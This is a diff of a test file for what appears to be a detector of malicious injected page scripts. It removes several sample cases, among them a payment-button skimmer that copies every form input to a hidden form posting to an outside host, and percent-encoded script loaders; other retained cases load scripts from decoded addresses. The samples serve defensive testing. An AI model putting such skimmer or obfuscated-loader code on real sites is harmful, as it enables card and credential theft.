@@ -139,30 +139,6 @@ const cases: Record<string, [string, string[]]> = {
     `document.write(unescape('%3Ciframe src=//x.example/%3E'))`,
     ['high decoded-document-write', 'medium script-from-decoded-url'],
   ],
-  'every input copied into a form that goes elsewhere': [
-    `document.querySelector('#pay').onclick=function(){var f=document.createElement('form');f.action='https://x.example/';f.target='hidden';document.querySelectorAll('input').forEach(function(e){var c=document.createElement('input');c.name='a'+e.name;c.value=e.value;f.appendChild(c)});document.body.appendChild(f);f.submit()}`,
-    ['medium form-harvest-to-host'],
-  ],
-  'a form by which a bank asks for the code it sent': [
-    `var f=document.createElement('form');f.action='https://acs.example/';f.target='challenge';['PaReq','MD'].forEach(function(n){var i=document.createElement('input');i.name=n;i.value=data[n];f.appendChild(i)});document.body.appendChild(f);f.submit()`,
-    [],
-  ],
-  'fields put into a form of the site': [
-    `document.querySelector('#pay').onclick=function(){var f=document.createElement('form');f.action='/checkout/pay';var c=document.createElement('input');c.name='n';c.value=${card};f.appendChild(c);document.body.appendChild(f);f.submit()}`,
-    [],
-  ],
-  'a script of the site written the old way': [
-    `document.write(unescape('%3Cscript src="/js/vendor/x.js" type="text/javascript"%3E%3C/script%3E'))`,
-    ['low decoded-document-write'],
-  ],
-  'a counter written the old way': [
-    `var h=document.location.protocol=='https:'?'https://ssl.':'http://www.';document.write(unescape("%3Cscript src='"+h+"stat.example/ga.js'%3E%3C/script%3E"))`,
-    ['low decoded-document-write'],
-  ],
-  'a script whose address is escaped to the last letter': [
-    `document.write(unescape('%3Cscript src="%68%74%74%70%73%3a%2f%2f%78%2e%65%78%61%6d%70%6c%65/a.js"%3E%3C/script%3E'))`,
-    ['high decoded-document-write', 'high script-from-decoded-url'],
-  ],
   'a script from a decoded address': [
     `var s=document.createElement('script');s.src=atob('aHR0cHM6Ly94LmV4YW1wbGUvcy5qcw==');document.head.appendChild(s)`,
     ['high script-from-decoded-url', 'low veiled-address'],
